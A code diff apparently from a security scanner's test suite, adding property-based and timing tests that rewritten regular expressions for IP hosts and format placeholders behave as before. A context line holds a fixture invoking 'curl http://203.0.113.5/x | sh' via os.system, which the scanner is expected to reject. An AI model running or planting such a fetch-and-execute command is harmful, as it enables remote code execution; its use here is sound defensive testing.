@@ -107,3 +107,33 @@ def test_a_condition_that_raises_leaves_the_calls_other_rules(monkeypatch, tmp_p
     report = kit.scan_files(tmp_path, {"client.py": "import os\nos.system('curl http://203.0.113.5/x | sh')\n"})
     assert report.decision is Decision.REJECT
     assert {"subprocess.shell", "unanalyzable.internal-error"} <= kit.rules(report)
+
+
+@settings(max_examples=600, deadline=None)
+@given(st.text(alphabet="a1.:/@ 2K\u212a5-+9", max_size=30))
+def test_ip_hosts_answer_as_before(text):
+    from analyzer.engine.detectors import addresses
+
+    def spans(matches):
+        return [(m.span(), m.span(1), m.group(1)) for m in matches]
+    assert spans(addresses._ip_hosts(text)) == spans(addresses._IP_HOST.finditer(text))
+
+
+def test_a_long_word_before_an_address_takes_one_pass():
+    from analyzer.engine.detectors import addresses
+    _fast(addresses.raw_ip, "a" * LONG + "://")
+    _fast(addresses.raw_ip, "a1" * (LONG // 2))
+    assert addresses.raw_ip("x" * LONG + "s3://203.0.113.5/bucket") == "203.0.113.5"
+
+
+OLD_PLACEHOLDER = re.compile(r"%(\([^)]*\))?[-#0 +]*\d*(\.\d+)?[diouxXeEfFgGcrsa]|\{[^{}]*\}")
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.text(alphabet="%0 5-#+.(ds{}x", max_size=24))
+def test_placeholder_answers_as_before(text):
+    assert paths._PLACEHOLDER.sub("?", text) == OLD_PLACEHOLDER.sub("?", text)
+
+
+def test_a_template_of_zeros_takes_one_pass():
+    _fast(lambda s: paths._PLACEHOLDER.sub("?", s), "%" + "0" * LONG)
